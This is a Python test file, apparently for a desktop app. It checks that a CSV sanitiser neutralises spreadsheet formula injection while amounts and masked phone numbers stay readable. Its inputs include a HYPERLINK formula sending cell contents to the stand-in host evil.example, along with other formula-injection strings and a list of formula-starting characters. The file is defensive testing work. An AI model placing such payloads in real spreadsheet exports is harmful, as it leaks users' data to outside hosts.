"""Tests that no CSV cell is a formula, and that people can still read the values."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from desktop.domain.csv_cells import harmless

FORMULA = set("=+-@＝＋－＠﹦﹢﹣﹫−")
TRIMMED = " \t\r\n\v\f\u00a0\u2007\u3000\ufeff\u200b\u200e\u202e\x00\x1f'\"`‘’“”"
_DANGEROUS = st.text(alphabet=st.sampled_from([*TRIMMED, *FORMULA, *"HYPERLINK();|,•0123456789.x"]), max_size=24)


@pytest.mark.parametrize(
    "value",
    [
        '+HYPERLINK("http://evil.example?"&A1,"•")',
        '+91 ••••• •8221+HYPERLINK("x")',
        "=1+1",
        "@SUM(A1)",
        "-2+3",
        "\t=1",
        "\r=1",
        "\n1",
        "\u00a0=1",
        "\ufeff=1",
        "  -x",
        "'=1",
        '"=1"',
        "＝1",
        "＋1",
        "−1",
        "+1.5e3",
        "+٣",
        "--5",
        "+5.",
        "1;=1",
        "1\t@x",
    ],
)
def test_nothing_begins_a_formula(value: str) -> None:
    """An apostrophe is put in front, whatever characters a spreadsheet trims first."""
    made = harmless(value)
    assert made is not None
    assert made != value
    assert made.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize(
    "value",
    [None, "", "5", "-5", "+5", "-5.125", "+919777788221", "+91 ••••• •8221", "+1 •••-•••-0100", "+••••8221", "a=b"],
)
def test_numbers_and_masked_numbers_stay_readable(value: str | None) -> None:
    """Spreadsheets can still sum amounts, and a masked number reads as in the window."""
    assert harmless(value) == value


@given(st.one_of(_DANGEROUS, st.text(max_size=24)))
@example("\t")
@example("a\x85=1")
def test_no_cell_of_any_text_is_a_formula(value: str) -> None:
    """In every piece that an importer could read as a cell, the first visible character does not begin a formula."""
    made = harmless(value) or ""
    # No character is lost or changed. Only apostrophes are added.
    rest = iter(made)
    assert all(character in rest for character in value)
    assert len(made) - len(value) == made.count("'") - value.count("'")
    for piece in re.split("[;\t|\r\n\v\f\x85\u2028\u2029]", made):
        if piece.startswith("'"):
            continue
        visible = [one for one in piece if one not in TRIMMED and unicodedata.category(one)[0] not in "CZ"]
        if visible and visible[0] in FORMULA:
            assert set(piece) <= set("+-0123456789. •")


@given(_DANGEROUS)
def test_a_cell_is_read_back_whole(value: str) -> None:
    """`csv` reads an escaped cell back unchanged."""
    made = harmless(value) or ""
    if "\0" in made:
        return
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["first", made])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == ["first", made]
